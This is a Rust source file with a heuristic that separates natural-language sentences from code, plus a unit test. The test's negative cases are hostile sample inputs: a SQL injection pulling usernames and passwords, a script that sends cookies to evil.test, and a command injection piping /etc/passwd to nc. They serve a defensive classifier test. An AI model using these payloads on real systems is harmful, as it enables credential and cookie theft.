//! Whether a value is something that people write: sentences, which mention code more often than they are code.

/// Words that sentences have and code has not.
const FUNCTION_WORDS: &[&str] = &[
    "the", "of", "to", "that", "it", "was", "with", "you", "this", "be", "are", "have", "but", "they", "we",
    "can", "will", "would", "there", "their", "what", "about", "which", "when", "your", "has", "been",
    "should", "could", "how", "than", "i", "my", "me", "he", "she", "our", "us", "do", "does", "did", "use",
    "using", "an", "for", "at", "so", "le", "la", "der", "die", "und", "que", "only", "more", "also", "no",
    "its", "may", "these", "some", "into", "a", "is", "if", "as",
];

/// Whether a value reads like sentences: enough words, most of it letters, and the small words that join them.
pub(crate) fn is_prose(value: &[u8]) -> bool {
    const SHORTEST: usize = 30;
    const LOOKED_AT: usize = 2000;
    if value.len() < SHORTEST {
        return false;
    }
    let value = &value[..value.len().min(LOOKED_AT)];
    let letters = value.iter().filter(|b| b.is_ascii_alphabetic() || **b == b' ' || **b >= 0x80).count();
    if letters * 100 < value.len() * 70 {
        return false;
    }
    let (mut words, mut small) = (0, 0);
    for word in value.split(|b| b.is_ascii_whitespace()) {
        let word = word.strip_suffix(b",").or(word.strip_suffix(b".")).unwrap_or(word);
        if word.is_empty()
            || !word.iter().all(|b| b.is_ascii_alphabetic() || matches!(b, b'\'' | b'-' | 0x80..))
        {
            continue;
        }
        words += 1;
        small += usize::from(FUNCTION_WORDS.iter().any(|known| known.as_bytes().eq_ignore_ascii_case(word)));
    }
    words >= 6 && small >= 2 && small * 12 >= words
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_are_told_from_code() {
        for text in [
            "You can use SELECT * FROM users WHERE id = 1 to see what is in the table.",
            "The <script> tag is used to embed JavaScript in a page, and it should be closed.",
            "Please run rm -rf node_modules and then you can install the packages again.",
        ] {
            assert!(is_prose(text.as_bytes()), "{text}");
        }
        for text in [
            "1 UNION SELECT username, password FROM users WHERE id = 1 and a in (select 1)",
            "<script>document.location='http://evil.test/?c='+document.cookie</script>",
            "; cat /etc/passwd | nc 10.0.0.1 4444 ; sleep 10 ; id",
            "O'Brien",
        ] {
            assert!(!is_prose(text.as_bytes()), "{text}");
        }
    }
}
